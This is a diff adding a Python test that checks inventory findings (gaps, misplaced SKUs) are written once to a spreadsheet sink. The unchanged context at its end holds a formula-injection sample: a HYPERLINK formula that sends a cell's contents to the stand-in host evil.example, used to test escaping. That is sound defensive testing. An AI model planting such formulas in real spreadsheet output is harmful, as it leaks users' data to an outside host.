@@ -74,6 +74,30 @@ def test_bays_land_once_with_layout_header_and_variances(tmp_path: Path,
     assert len(sheets.fake.rows(sheets.key, VARIANCES)) == 3
 
 
+def test_findings_worksheet_gets_each_bays_findings_once(tmp_path: Path,
+                                                        sheets: SheetsEnv) -> None:
+    from gateway.sinks.sheets import FINDINGS, FINDINGS_HEADER
+
+    _, bays, _, worker = _setup(tmp_path, sheets)
+    gap = {"type": "gap", "box": [10.5, 20.0, 110.5, 220.0], "sku": "",
+           "expected_sku": "SKU-10001", "confidence": 0.9}
+    wrong = {"type": "misplaced", "box": [200.0, 20.0, 300.0, 220.0], "sku": "SKU-10009",
+             "expected_sku": "SKU-10001", "confidence": 0.95}
+    first = bays.confirm("A-01-1", [row("A-01-1", "SKU-10001", 25)], [gap, wrong])
+    bays.confirm("A-01-2", [row("A-01-2", "SKU-10003", 20)])  # nothing found there
+    assert worker.run_once() == 2
+    rows = sheets.fake.rows(sheets.key, FINDINGS)
+    assert rows[0] == list(FINDINGS_HEADER)
+    assert [r[:10] for r in rows[1:]] == [
+        ["A-01-1", first, "gap", 10.5, 20.0, 110.5, 220.0, "", "SKU-10001", 0.9],
+        ["A-01-1", first, "misplaced", 200.0, 20.0, 300.0, 220.0, "SKU-10009", "SKU-10001",
+         0.95]]
+    assert rows[1][FINDINGS_HEADER.index("Count_ID")] == first
+    for entry in bays.store.outbox_entries(bays.session_id):  # a retry adds nothing
+        worker.sinks[0].deliver(entry)
+    assert len(sheets.fake.rows(sheets.key, FINDINGS)) == 3
+
+
 def test_formula_injection_is_escaped(tmp_path: Path, sheets: SheetsEnv) -> None:
     _, bays, _, worker = _setup(tmp_path, sheets)
     evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
